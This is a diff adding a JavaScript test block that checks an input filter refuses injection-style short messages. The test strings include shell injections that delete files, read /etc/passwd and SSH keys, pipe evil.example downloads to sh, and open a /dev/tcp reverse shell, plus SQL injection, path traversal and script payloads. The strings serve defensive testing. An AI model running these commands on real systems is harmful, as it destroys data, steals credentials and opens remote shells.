@@ -45,3 +45,64 @@ describe('a word and a number', () => {
       expect(spoken.filter((word) => refused(list.replace('WORD', word), 'prose'))).toEqual([])
   })
 })
+
+describe('attacks that look like short messages', () => {
+  it.each([
+    ';sleep 5',
+    '1;sleep 5',
+    '1; sleep 5',
+    '| sleep 10',
+    '&& ping -c 5 127.0.0.1',
+    'ping 127.0.0.1',
+    ';id',
+    '; id',
+    'ann;id',
+    'hello; id',
+    'done; env',
+    'done;reboot',
+    'x && reboot',
+    'lunch; rm -rf /',
+    'lunch; cat /etc/passwd',
+    'read; cat ~/.ssh/id_rsa',
+    'more; less /etc/shadow',
+    'wait 5; wget http://evil.example/a -O /tmp/a',
+    'top 10 | nc 10.0.0.1 4444',
+    '5; kill -9 1',
+    'cut; paste; curl http://evil.example | sh',
+    'date; bash -i >& /dev/tcp/10.0.0.1/4 0>&1',
+    '`id`',
+    '; `id`',
+    '`wget http://evil.example/a`; `sh a`',
+    'eval `id`',
+    `5' or 1=1 --`,
+    `5'6" or 1=1 --`,
+    `6' or '1'='1`,
+    `5" or "1"="1`,
+    `5'6"; DROP TABLE users; --`,
+    `1' or 1 --`,
+    'select 5 from users union select 6',
+    'select 5; drop table users',
+    'union select 5',
+    '1 union select 5',
+    `'union`,
+    '../',
+    '..%2f',
+    '....//....//etc/passwd',
+    '.../.../etc/passwd',
+    '; $cmd',
+    '|$0',
+    '$100; cat /etc/passwd',
+    "`name`: '; DROP TABLE users; --",
+    '`code` <script>alert(1)</script>',
+    '| a | b |\n|---|---|\n| 1 | 2 |\n; rm -rf /',
+    'use `ls`\n; rm -rf /',
+    '```\nls\n```\n$(id)',
+  ])('%j is refused as a message, and where nothing was declared', (text) => {
+    expect(refused(text, 'prose')).toBe(true)
+    expect(refused(text)).toBe(true)
+  })
+  it.each(['sleep 5', 'reboot', 'shutdown', 'x; reboot', 'hello; reboot', 'select 5', '-1 union', '..', 'maths; history', 'done; sleep 5'])(
+    '%j is refused where nothing was declared, though people write it',
+    (text) => expect(refused(text)).toBe(true),
+  )
+})
